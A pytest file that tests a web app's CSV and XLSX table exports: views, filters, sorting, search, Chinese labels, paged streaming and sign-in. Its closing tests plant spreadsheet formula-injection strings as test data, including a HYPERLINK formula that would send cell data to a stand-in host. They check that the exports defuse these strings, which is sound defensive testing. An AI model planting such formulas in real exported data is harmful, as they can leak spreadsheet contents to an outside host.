"""Exporting a table view as CSV and XLSX as the person sees it (columns, filters, sort,
search, labels, titles, locale), streamed a keyset page at a time."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from lowrise import exporter
from test_web_support import make_record

pytest_plugins = ["test_web_support"]


@pytest.fixture
def deals(run):
    a = make_record(run, "client", name="Alpha Co")
    b = make_record(run, "client", name="Beta Ltd")
    for title, client, stage, amount, on in [("North flat", a, "lead", "500", "2026-03-01"),
                                             ("South villa", b, "won", "9000", None),
                                             ("East shop", a, "lead", "1500", "2026-04-02"),
                                             ("West loft", b, "lost", "700", None)]:
        make_record(run, "deal", title=title, client=client["id"], stage=stage, amount=amount,
                    closes_on=on)


def read_csv(resp) -> list[list[str]]:
    text = resp.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_of_the_default_view_with_labels_titles_and_sort(client, signed_in, deals):
    resp = client.get("/r/deal/export.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = read_csv(resp)
    assert rows[0] == ["Title", "Client", "Stage", "Amount", "Closes on", "Owner"]
    assert [r[0] for r in rows[1:]] == ["South villa", "East shop", "West loft", "North flat"]
    assert rows[1][1:4] == ["Beta Ltd", "Won", "CN¥9,000.00"]
    assert rows[2][4] == "Apr 2, 2026"


def test_csv_follows_the_view_filter_and_the_persons_filters_and_search(client, signed_in, deals):
    rows = read_csv(client.get("/r/deal/table/open_deals/export.csv"))
    assert rows[0] == ["Title", "Stage", "Amount"]
    assert sorted(r[0] for r in rows[1:]) == ["East shop", "North flat"]
    rows = read_csv(client.get("/r/deal/export.csv?f0=amount&o0=gte&v0=1000&sort=amount"))
    assert [r[0] for r in rows[1:]] == ["East shop", "South villa"]
    rows = read_csv(client.get("/r/deal/export.csv?q=villa"))
    assert [r[0] for r in rows[1:]] == ["South villa"]


def test_csv_in_chinese(client, signed_in, deals):
    client.get("/locale/zh")
    rows = read_csv(client.get("/r/deal/export.csv"))
    assert rows[0][:3] == ["标题", "客户", "阶段"] and rows[1][2] == "赢单"


def test_xlsx_keeps_numbers_and_dates(client, signed_in, deals):
    from datetime import datetime
    from decimal import Decimal

    from openpyxl import load_workbook

    resp = client.get("/r/deal/export.xlsx?sort=title")
    assert resp.status_code == 200 and resp.mimetype.endswith("spreadsheetml.sheet")
    wb = load_workbook(io.BytesIO(resp.get_data()))
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0] == ("Title", "Client", "Stage", "Amount", "Closes on", "Owner")
    east = rows[1]
    assert east[:3] == ("East shop", "Alpha Co", "Lead")
    assert Decimal(str(east[3])) == Decimal("1500") and east[4] == datetime(2026, 4, 2)


def test_the_table_page_links_to_its_exports(client, signed_in, deals):
    html = client.get("/r/deal/table/open_deals?q=shop").text
    links = re.findall(r'href="(/r/deal/table/open_deals/export\.(?:csv|xlsx)\?[^"]*)"', html)
    assert len(links) == 2 and all("q=shop" in link for link in links)


def test_export_needs_sign_in(client, deals):
    assert client.get("/r/deal/export.csv").status_code == 302


def test_rows_are_read_page_by_page(run, deals):
    """A generator over keyset pages: memory holds one page, never the whole result."""
    rt = run.workspace.type("deal")
    cols = [rt.fields["title"], rt.fields["client"]]
    calls = []
    import lowrise.exporter as ex

    real = ex.query.list_records

    def spy(*a, **kw):
        if a[2] == "deal":  # the rows' pages (link titles are read with the same call)
            calls.append(kw["limit"])
        return real(*a, **kw)

    ex.query.list_records = spy
    try:
        lines = exporter.rows(run.engine, run.schema, "deal", cols, actor=make_actor(), via="csv",
                              sort=["title"], page_size=2)
        assert next(lines) == ["Title", "Client"] and len(calls) == 1  # the first page
        assert next(lines) == ["East shop", "Alpha Co"] and len(calls) == 1
        rest = list(lines)
    finally:
        ex.query.list_records = real
    assert len(rest) == 3 and len(calls) == 2


def make_actor():
    from lowrise.actor import Actor

    return Actor(name="t", system=True)



FORMULAS = ['=HYPERLINK("http://x/?"&B2,"go")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "＋1",
            "－1", "＠A1"]


@pytest.fixture
def planted(run):
    """Clients whose names a spreadsheet would run as formulas, and a deal named like one
    that links to such a client (the client's name is in the deal's export too)."""
    made = [make_record(run, "client", name=text) for text in FORMULAS]
    make_record(run, "deal", title="=1+1", client=made[0]["id"], amount="5")
    return made


def test_csv_export_defuses_formulas(client, signed_in, planted):
    rows = read_csv(client.get("/r/client/export.csv?sort=id"))
    assert rows[0][0] == "Name"
    assert [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    deal = read_csv(client.get("/r/deal/export.csv"))[1]
    assert deal[:2] == ["'=1+1", "'" + FORMULAS[0]]  # the linked client's name too
    assert deal[3] == "CN¥5.00"


def test_text_after_a_tab_or_a_return_is_defused_and_a_negative_number_is_not(run):
    """A text field trims what it stores; a long text keeps a leading tab or return."""
    notes = run.workspace.type("client").fields["notes"]
    for text in ("\t=1+1", "\r=1+1", "-2.5"):
        assert exporter.cell(notes, text, {}, "en", "UTC", "text") == "'" + text
    area = run.workspace.type("client").fields["area"]
    assert exporter.cell(area, Decimal("-2.5"), {}, "en", "UTC", "text") == "-2.5"


def test_xlsx_export_writes_formula_text_as_strings(client, signed_in, planted):
    import zipfile

    from openpyxl import load_workbook

    data = client.get("/r/client/export.xlsx?sort=id").get_data()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"><is><t>=HYPERLINK(' in xml
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == FORMULAS  # the text itself, as it was typed
    deal = client.get("/r/deal/export.xlsx").get_data()
    xml = zipfile.ZipFile(io.BytesIO(deal)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<t>=1+1</t>" in xml
